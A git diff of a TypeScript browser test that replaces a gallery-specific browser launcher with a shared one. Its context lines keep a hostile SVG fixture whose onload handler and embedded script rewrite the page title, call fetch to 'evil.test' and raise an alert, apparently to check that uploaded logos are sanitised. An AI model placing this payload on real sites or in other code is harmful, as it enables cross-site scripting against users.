@@ -4,7 +4,8 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { signInText } from "../../src/runtime/mail/mail-body.js";
 import { droppedValues } from "../../src/runtime/settings/dropped-values.js";
 import { origin } from "../oauth/drive.js";
-import { galleryBrowser, openExhibit } from "./gallery.js";
+import { openExhibit } from "./gallery.js";
+import { launchBrowser } from "../support/browser.js";
 
 const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="top.document.title='owned'">
   <script>top.document.title = "owned"; fetch("https://evil.test/script"); alert(1)</script>
@@ -16,7 +17,7 @@ const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" 
 </svg>`;
 
 let browser: Browser;
-beforeAll(async () => void (browser = await galleryBrowser()));
+beforeAll(async () => void (browser = await launchBrowser()));
 afterAll(() => browser?.close());
 
 /** Opens a page with a logo. @returns what was asked for, and what the page made of it */
